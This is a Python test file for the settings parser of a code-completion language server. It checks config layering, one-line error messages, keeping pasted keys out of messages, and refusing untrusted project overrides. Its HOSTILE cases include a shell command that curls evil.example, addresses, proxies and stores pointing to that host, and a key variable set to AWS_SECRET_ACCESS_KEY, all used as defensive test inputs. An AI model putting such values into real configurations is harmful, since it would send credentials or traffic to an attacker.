"""Settings: three places, later wins; each mistake is one readable line and the rest applies."""

from __future__ import annotations

import dataclasses
import json
import tomllib
from collections.abc import Mapping
from pathlib import Path
from typing import Any, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fim_lsp import settings
from fim_lsp.settings import RULES, UNTIL_THEN, Layer, Parsed, Settings, parse

PASTED = "sk-Hq7Zt93kVb2LpWx8RmNc4sDf6gJh1yUa"
LETTERS = "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY"


def read(toml: str, source: str = "config.toml") -> Parsed:
    return parse(Layer(source=source, table=tomllib.loads(toml)))


def value_at(parsed: Parsed, name: str) -> object:
    found: object = parsed.settings
    for part in name.split("."):
        found = getattr(found, part)
    return found


UNDERSTOOD = {
    "a text": ('model = "codestral-latest"', "model", "codestral-latest"),
    "a nested number": ("[request]\nmax_tokens = 64", "request.max_tokens", 64),
    "a dotted number": ("limits.shared_by = 12", "limits.shared_by", 12),
    "a whole number where any number fits": ("request.temperature = 0", "request.temperature", 0.0),
    "a number or a word, as a number": ("trigger.debounce_ms = 0", "trigger.debounce_ms", 0),
    "a number or a word, as a word": (
        'trigger.debounce_ms = "auto"',
        "trigger.debounce_ms",
        "auto",
    ),
    "kebab case": ("[limits]\ntokens-per-minute = 9000", "limits.tokens_per_minute", 9000),
    "camel case": ("[limits]\ntokensPerMinute = 9000", "limits.tokens_per_minute", 9000),
    "one stop text": ('request.stop = "\\n\\n"', "request.stop", "\n\n"),
    "several stop texts": ('request.stop = ["a", "b"]', "request.stop", ("a", "b")),
    "a command": (
        'api_key_command = ["pass", "show", "odeus"]',
        "api_key_command",
        ("pass", "show", "odeus"),
    ),
    "a lower-case variable": ('api_key_env = "my_key"', "api_key_env", "my_key"),
    "an address with a port and a path": (
        'base_url = "https://host.example:8443/api/public/mistral/eu/v1"',
        "base_url",
        "https://host.example:8443/api/public/mistral/eu/v1",
    ),
    "a proxy": ('network.proxy = "http://proxy:3128"', "network.proxy", "http://proxy:3128"),
}


@pytest.mark.parametrize(("toml", "name", "expected"), UNDERSTOOD.values(), ids=UNDERSTOOD.keys())
def test_understood(toml: str, name: str, expected: object) -> None:
    parsed = read(toml)
    assert parsed.problems == ()
    assert value_at(parsed, name) == expected
    assert parsed.sources == {name: "config.toml"}


KNOWN = ", ".join(field.name for field in dataclasses.fields(settings.TriggerSettings))
PROVIDERS = " or ".join(f'"{name}"' for name in get_args(settings.ProviderName))
PROBLEMS = {
    "a typing mistake": (
        "modle = 'x'",
        "config.toml: unknown setting modle: did you mean model?",
    ),
    "a typing mistake in a table": (
        "[limits]\nshared_bye = 3",
        "config.toml: unknown setting limits.shared_bye: did you mean limits.shared_by?",
    ),
    "a setting outside its table": (
        "max_tokens = 3",
        "config.toml: unknown setting max_tokens: did you mean request.max_tokens?",
    ),
    "another tool's name": (
        "apiBase = 'https://x'",
        "config.toml: unknown setting apiBase: did you mean base_url?",
    ),
    "nothing alike": (
        "[trigger]\nzzz = 3",
        f"config.toml: unknown setting trigger.zzz: known here: {KNOWN}.",
    ),
    "a text for a number": (
        '[limits]\nshared_by = "many"',
        "config.toml: limits.shared_by = 'many' does not fit; it takes a whole number.",
    ),
    "a text for a boolean": (
        'request.stream = "false"',
        "config.toml: request.stream = 'false' does not fit; it takes true or false.",
    ),
    "a boolean for a number": (
        "request.max_tokens = true",
        "config.toml: request.max_tokens = True does not fit; it takes a whole number.",
    ),
    "a number for a text": (
        "model = 5",
        "config.toml: model = 5 does not fit; it takes a text.",
    ),
    "a text for a list": (
        'trigger.disabled_languages = "python"',
        (
            "config.toml: trigger.disabled_languages = 'python' does not fit; "
            'it takes a list of texts, such as ["one", "two"].'
        ),
    ),
    "a value for a table": (
        "limits = 3",
        "config.toml: limits is not a table; write [limits].",
    ),
    "a provider by its model's name": (
        'provider = "codestral"',
        (
            "config.toml: provider = 'codestral' does not fit: "
            f'did you mean "mistral"? It takes {PROVIDERS}.'
        ),
    ),
    "shared by nobody": (
        "limits.shared_by = 0",
        "config.toml: limits.shared_by = 0 does not fit; it takes 1 or more.",
    ),
    "a negative number": (
        "request.max_tokens = -1",
        "config.toml: request.max_tokens = -1 does not fit; it takes 1 or more.",
    ),
    "too hot": (
        "request.temperature = 1.6",
        "config.toml: request.temperature = 1.6 does not fit; it takes a number from 0 to 1.5.",
    ),
    "no number at all": (
        "request.temperature = nan",
        "config.toml: request.temperature = nan does not fit; it takes a number from 0 to 1.5.",
    ),
    "an endless wait": (
        "network.total_timeout_s = inf",
        (
            "config.toml: network.total_timeout_s = inf does not fit; "
            "it takes a number from 0.1 to 600."
        ),
    ),
    "an address without its scheme": (
        'base_url = "api.odeus.ai"',
        (
            "config.toml: base_url = 'api.odeus.ai' does not fit; it takes "
            "an address such as https://api.mistral.ai/v1, without a user name or key."
        ),
    ),
    "a proxy without its scheme": (
        'network.proxy = "proxy:3128"',
        (
            "config.toml: network.proxy = 'proxy:3128' does not fit; it takes "
            "an address such as http://proxy.example:3128."
        ),
    ),
    "a long value is cut": (
        f'provider = "{"x" * 200}"',
        f"config.toml: provider = '{'x' * 58}… does not fit; it takes {PROVIDERS}.",
    ),
}


@pytest.mark.parametrize(("toml", "line"), PROBLEMS.values(), ids=PROBLEMS.keys())
def test_a_mistake_is_one_readable_line_and_the_rest_applies(toml: str, line: str) -> None:
    parsed = read('api_key_env = "REST_KEY"\n' + toml)
    assert [told.removesuffix(UNTIL_THEN) for told in parsed.problems] == [line]
    provider = "local" if parsed.problems[0].endswith(UNTIL_THEN) else None
    assert parsed.settings == Settings(api_key_env="REST_KEY", provider=provider)


DECIDING = {
    "a provider": ('provider = "local-model"', True),
    "an address": ('base_url = "llama.example:8080"', True),
    "an address by another name": ('endpoint = "https://llama.example"', True),
    "a preset": ('preset = "olama"', True),
    "the key's variable": ("api_key_env = 3", True),
    "the key's command": ('api_key_command = "pass show llama"', True),
    "what must not be sent": ('[context]\nexclude = "secret.py"', True),
    "the model": ("model = 3", False),
    "a limit": ("[limits]\nshared_by = 0", False),
    "a setting that is not known": ('colour = "red"', False),
    "an address beside a right one": (
        'base_url = "https://llama.example"\nurl = "https://other.example"',
        False,
    ),
}


@pytest.mark.parametrize(("toml", "decides"), DECIDING.values(), ids=DECIDING.keys())
def test_a_mistake_in_what_is_sent_where_sends_nothing(
    monkeypatch: pytest.MonkeyPatch, toml: str, *, decides: bool
) -> None:
    """Not even where the default's key happens to be in the environment."""
    monkeypatch.setenv("ODEUS_API_KEY", "k")
    parsed = read(toml)
    assert parsed.settings.effective_provider == ("local" if decides else "mistral")
    assert parsed.problems[0].endswith(UNTIL_THEN) == decides


SECRETS = {
    "a key": f'api_key = "{PASTED}"',
    "a key in camel case": f'apiKey = "{PASTED}"',
    "a key in a table": f'[request]\napi_key = "{PASTED}"',
    "a token": f'token = "{PASTED}"',
    "the key instead of its variable": f'api_key_env = "{PASTED}"',
    "the key instead of its variable, in letters": f'api_key_env = "{LETTERS}"',
    "the key instead of a command": f'api_key_command = "{PASTED}"',
    "the key in a table of its own": f'api_key_env = {{ value = "{PASTED}" }}',
    "the key in the address": f'base_url = "https://user:{PASTED}@host.example/v1"',
    "the key in a header": f'headers = "api-key: {PASTED}"',
    "the key in the whole address": f'full_url = "host.example/v1?key={PASTED}"',
    "the key in the proxy's address": f'network.proxy = "proxy://user:{PASTED}@host"',
}


@pytest.mark.parametrize("toml", SECRETS.values(), ids=SECRETS.keys())
def test_a_key_in_the_wrong_place_is_never_repeated(toml: str) -> None:
    parsed = read(toml)
    (problem,) = parsed.problems
    assert PASTED not in problem
    assert LETTERS not in problem
    assert parsed.settings in {Settings(), Settings(provider="local")}


@pytest.mark.parametrize("name", ["api_key", "apiKey", "api-key", "key", "token"])
def test_a_key_in_settings_is_told_where_keys_go(name: str) -> None:
    (problem,) = read(f'{name} = "{PASTED}"').problems
    assert problem == (
        f"config.toml: {name}: keys are not kept in settings; name the environment variable that "
        "holds it with api_key_env, or a command that prints it with api_key_command."
    )


def test_later_places_win_name_by_name() -> None:
    parsed = parse(
        Layer(source="file", table={"model": "a", "limits": {"shared_by": 2}}),
        None,
        Layer(source="editor", table={"limits": {"shared_by": 3, "requests_per_minute": 9}}),
        Layer(source="command line", table={"model": "b"}),
    )
    assert parsed.settings.model == "b"
    assert parsed.settings.limits == settings.LimitSettings(shared_by=3, requests_per_minute=9)
    assert parsed.sources == {
        "model": "command line",
        "limits.shared_by": "editor",
        "limits.requests_per_minute": "editor",
    }


def test_a_mistake_in_a_later_place_leaves_the_earlier_value() -> None:
    parsed = parse(
        Layer(source="file", table={"limits": {"shared_by": 2}}),
        Layer(source="editor", table={"limits": {"shared_by": 0}}),
    )
    assert parsed.settings.limits.shared_by == 2
    assert len(parsed.problems) == 1


HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "the provider": ({"provider": "openai"}, "provider"),
    "a preset": ({"preset": "deepseek"}, "preset"),
    "the address": ({"base_url": "https://evil.example/v1"}, "base_url"),
    "the whole address": ({"fullUrl": "https://evil.example/v1"}, "full_url"),
    "the key's variable": ({"api-key-env": "AWS_SECRET_ACCESS_KEY"}, "api_key_env"),
    "a command": ({"api_key_command": ["sh", "-c", "curl evil.example"]}, "api_key_command"),
    "a header": ({"headers": ["x-host: evil.example"]}, "headers"),
    "another endpoint beside it": ({"fallback": "deepseek"}, "fallback"),
    "a proxy": ({"network": {"proxy": "http://evil.example:1"}}, "network"),
    "certificates": ({"network": {"ca_bundle": "evil.pem"}}, "network"),
    "a store of the team's": ({"limits": {"store": "redis://evil.example/0"}}, "limits.store"),
    "a cache of the team's": ({"cache": {"store": "redis://evil.example/0"}}, "cache.store"),
    "plain text": ({"network": {"allow_insecure": True}}, "network"),
}


@pytest.mark.parametrize(("table", "name"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_project_decides_nothing_of_what_is_sent_where(table: dict[str, Any], name: str) -> None:
    own = Layer(source="file", table={"model": "mine"})
    parsed = parse(own, Layer(source="editor", table=table, is_trusted=False))
    assert parsed.settings == Settings(model="mine")
    (problem,) = parsed.problems
    assert problem.startswith(f"editor: {name} is not taken from there")


def test_a_project_may_only_narrow_what_is_sent() -> None:
    own = Layer(source="file", table={"trigger": {"disabled_languages": ["markdown"]}})
    table = {
        "context": {"exclude": ["*.sql"], "prompt_tokens": 9_000},
        "trigger": {"disabled_languages": ["json"]},
    }
    narrowed = parse(own, Layer(source="editor", table=table, is_trusted=False)).settings
    assert narrowed.context.exclude == (*settings.EXCLUDE_BY_DEFAULT, "*.sql")
    assert narrowed.context.prompt_tokens == Settings().context.prompt_tokens
    assert narrowed.trigger.disabled_languages == ("markdown", "json")


EDITORS: dict[str, tuple[object, Mapping[str, Any] | None]] = {
    "flat": ({"model": "m"}, {"model": "m"}),
    "under fim": ({"fim": {"model": "m"}}, {"model": "m"}),
    "empty": ({}, {}),
    "null": (None, None),
    "a list": ([1], None),
    "fim is no table": ({"fim": 3}, None),
}


@pytest.mark.parametrize(("sent", "table"), EDITORS.values(), ids=EDITORS.keys())
def test_what_an_editor_sends(sent: object, table: Mapping[str, Any] | None) -> None:
    layer = settings.editor_layer(sent)
    assert (layer and layer.table) == table


LUA = {
    "null is not set": '{"model": null}',
    "an empty list for a table": '{"limits": []}',
    "an empty table for a list": '{"trigger": {"disabled_languages": {}}}',
}


@pytest.mark.parametrize("sent", LUA.values(), ids=LUA.keys())
def test_what_lua_makes_of_empty_tables_is_no_problem(sent: str) -> None:
    parsed = parse(settings.editor_layer(json.loads(sent)))
    assert parsed.problems == ()
    assert parsed.settings == Settings()


EFFECTIVE: dict[str, tuple[dict[str, Any], str, tuple[str, str, str]]] = {
    "nothing set": ({}, "", ("local", "", "")),
    "a key": (
        {},
        "ODEUS_API_KEY",
        ("mistral", "https://api.odeus.ai/mistral/eu/v1", "codestral-2501"),
    ),
    "a key in another variable": (
        {"api_key_env": "OTHER"},
        "OTHER",
        ("mistral", "https://api.odeus.ai/mistral/eu/v1", "codestral-2501"),
    ),
    "a key command": (
        {"api_key_command": ["pass"]},
        "",
        ("mistral", "https://api.odeus.ai/mistral/eu/v1", "codestral-2501"),
    ),
    "an address": (
        {"base_url": "https://codestral.mistral.ai/v1/", "model": "codestral-latest"},
        "",
        ("mistral", "https://codestral.mistral.ai/v1", "codestral-latest"),
    ),
    "the whole address": (
        {"base_url": "https://api.mistral.ai/v1/fim/completions"},
        "",
        ("mistral", "https://api.mistral.ai/v1", "codestral-2501"),
    ),
    "local wins over a key": ({"provider": "local"}, "ODEUS_API_KEY", ("local", "", "")),
    "another provider": ({"provider": "ollama"}, "", ("ollama", "http://127.0.0.1:11434", "")),
}


@pytest.mark.parametrize(("table", "variable", "expected"), EFFECTIVE.values(), ids=EFFECTIVE)
def test_what_is_used(
    monkeypatch: pytest.MonkeyPatch,
    table: Mapping[str, Any],
    variable: str,
    expected: tuple[str, str, str],
) -> None:
    monkeypatch.delenv("ODEUS_API_KEY", raising=False)
    if variable:
        monkeypatch.setenv(variable, "not a real key")
    parsed = parse(Layer(source="test", table=table))
    assert parsed.problems == ()
    used = parsed.settings
    assert (used.effective_provider, used.effective_base_url, used.effective_model) == expected


def test_the_file_is_where_the_variable_says(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("FIM_LSP_CONFIG", str(tmp_path / "here.toml"))
    assert settings.config_path() == tmp_path / "here.toml"
    monkeypatch.delenv("FIM_LSP_CONFIG")
    assert settings.config_path().parts[-2:] == ("fim-lsp", "config.toml")


def test_a_file_is_read(tmp_path: Path) -> None:
    path = tmp_path / "config.toml"
    path.write_text('model = "m"\n', encoding="utf-8")
    assert settings.read_file(path) == (Layer(source=str(path), table={"model": "m"}), None)


def test_no_file_is_no_problem(tmp_path: Path) -> None:
    assert settings.read_file(tmp_path / "none.toml") == (None, None)


def unreadable(path: Path) -> None:
    path.mkdir()


def not_toml(path: Path) -> None:
    path.write_text("model = \n", encoding="utf-8")


def not_text(path: Path) -> None:
    path.write_bytes(b"model = '\xff'\n")


@pytest.mark.parametrize("spoil", [unreadable, not_toml, not_text])
def test_a_file_that_cannot_be_read_is_one_line(tmp_path: Path, spoil: Any) -> None:
    path = tmp_path / "config.toml"
    spoil(path)
    layer, problem = settings.read_file(path)
    assert layer == Layer(source=str(path), table={"provider": "local"})
    assert problem is not None
    assert problem.startswith("config.toml ")
    assert "\n" not in problem


def test_what_is_no_toml_is_told_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "config.toml"
    path.write_text("model = \n", encoding="utf-8")
    said = "config.toml is not valid TOML at line 1, column 9: correct it (Invalid value)."
    assert settings.read_file(path)[1] == said


def leaves(cls: type, at: str = "") -> dict[str, object]:
    """Every setting's dotted name and default."""
    found: dict[str, object] = {}
    default = cls()
    for field in dataclasses.fields(cls):
        value = getattr(default, field.name)
        if dataclasses.is_dataclass(value):
            found |= leaves(type(value), f"{at}{field.name}.")
        else:
            found[f"{at}{field.name}"] = value
    return found


def test_every_rule_names_a_setting_and_lets_its_default_through() -> None:
    defaults = leaves(Settings)
    for name, rule in RULES.items():
        assert name in defaults
        assert defaults[name] is None or rule.fits(defaults[name])


def test_every_number_has_a_rule() -> None:
    numbers = {name for name, value in leaves(Settings).items() if type(value) in {int, float}}
    assert numbers <= set(RULES)


WORDS = st.text("ab_\né", max_size=4)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | WORDS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(WORDS, inner, max_size=3),
    max_leaves=8,
)
NAMES = st.sampled_from(
    [*leaves(Settings), *(field.name for field in dataclasses.fields(Settings))]
)


@given(table=st.dictionaries(NAMES.map(lambda name: name.split(".")[0]), JSON, max_size=4))
def test_whatever_is_sent_gives_settings_and_single_lines(table: dict[str, Any]) -> None:
    """An editor's configuration is a person's text: nothing in it may stop the server."""
    parsed = parse(Layer(source="editor", table=table))
    assert isinstance(parsed.settings, Settings)
    assert all(len(problem.split("\n")) == 1 for problem in parsed.problems)


KEYS: dict[str, tuple[dict[str, str], str]] = {
    "nothing named": ({}, "ODEUS_API_KEY"),
    "mistral": ({"provider": "mistral"}, "ODEUS_API_KEY"),
    "llamacpp": ({"provider": "llamacpp"}, "LLAMA_API_KEY"),
    "openai": ({"provider": "openai"}, "VLLM_API_KEY"),
    "deepseek": ({"provider": "deepseek"}, "DEEPSEEK_API_KEY"),
    "its own word counts": ({"provider": "openai", "api_key_env": "MINE"}, "MINE"),
}


@pytest.mark.parametrize(("table", "variable"), KEYS.values(), ids=KEYS.keys())
def test_no_provider_is_sent_anothers_key(table: dict[str, str], variable: str) -> None:
    assert parse(Layer(source="file", table=table)).settings.api_key_env == variable
